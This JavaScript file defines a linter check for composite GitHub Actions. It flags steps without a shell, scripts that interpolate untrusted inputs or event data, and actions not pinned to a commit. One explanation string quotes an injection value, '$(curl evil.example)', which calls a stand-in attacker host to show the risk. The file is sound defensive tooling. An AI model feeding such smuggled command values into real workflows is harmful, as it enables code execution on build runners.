// @ts-check
import { defineCheck } from 'verify-service';
import { actionOf, docs, isMapping } from '../action.js';

const hardening = 'https://docs.github.com/en/actions/reference/security/secure-use';

/** An expression with text that an attacker can choose, for example in an issue. */
const untrusted = /\$\{\{[^}]*\b(inputs\b|github\.event\b|github\.head_ref\b)[^}]*\}\}/;

export const stepsCheck = defineCheck({
  name: 'steps',
  title: 'Safety of the steps of a composite action',
  docs: `${docs}#runs-for-composite-actions`,
  modes: ['project'],
  needs: ['metadata'],
  rules: [
    {
      code: 'action-shell-missing',
      title: 'A step with a script has no shell',
      severity: 'error',
      why: 'Actions have no default shell, so the step fails.',
      fix: 'Add shell: bash, or the shell that the script is written for.',
      bad: 'steps:\n  - run: echo hello',
      good: 'steps:\n  - run: echo hello\n    shell: bash',
      docs: `${docs}#runsstepsshell`,
    },
    {
      code: 'action-script-injection',
      title: 'A script contains untrusted text',
      severity: 'error',
      why: 'Expressions are replaced before the shell starts, so an input like $(curl evil.example) is executed.',
      fix: 'Pass the value in env and use the quoted variable in the script.',
      bad: 'run: echo "Hello ${{ inputs.who }}"\nshell: bash',
      good: 'run: echo "Hello $WHO"\nshell: bash\nenv:\n  WHO: ${{ inputs.who }}',
      docs: `${hardening}#good-practices-for-mitigating-script-injection-attacks`,
    },
    {
      code: 'action-uses-unpinned',
      title: 'A step uses an action that is not pinned to a commit',
      severity: 'warning',
      why: 'Tags and branches can be moved to other code, for example if the repository is compromised.',
      fix: 'Pin the action to a full commit SHA, with the version in a comment.',
      bad: 'uses: actions/checkout@v5',
      good: 'uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0',
      docs: `${hardening}#using-third-party-actions`,
    },
  ],
  async *run(context) {
    const { fields, at } = await actionOf(context);
    const runs = isMapping(fields['runs']) ? fields['runs'] : {};
    if (runs['using'] !== 'composite') context.skip('not a composite action');
    const steps = Array.isArray(runs['steps']) ? runs['steps'] : [];
    for (const [index, step] of steps.entries()) {
      if (!isMapping(step)) continue;
      const { run, shell, uses } = step;
      const path = ['runs', 'steps', index];
      if (typeof run === 'string') {
        if (typeof shell !== 'string') {
          yield { code: 'action-shell-missing', message: 'The step has no shell', ...at([...path, 'run']) };
        }
        const evidence = untrusted.exec(run)?.[0];
        if (evidence !== undefined) {
          const message = 'The script contains an expression with untrusted text';
          yield { code: 'action-script-injection', message, evidence, ...at([...path, 'run']) };
        }
      }
      if (typeof uses === 'string' && isMovable(uses)) {
        const message = `"${uses}" is not pinned to a commit`;
        yield { code: 'action-uses-unpinned', message, evidence: uses, ...at([...path, 'uses']) };
      }
    }
  },
});

/** Returns whether a reference can change: local actions cannot, and images have digests. @param {string} uses */
function isMovable(uses) {
  return !uses.startsWith('./') && !uses.startsWith('docker://') && !/@[0-9a-f]{40}$/.test(uses);
}
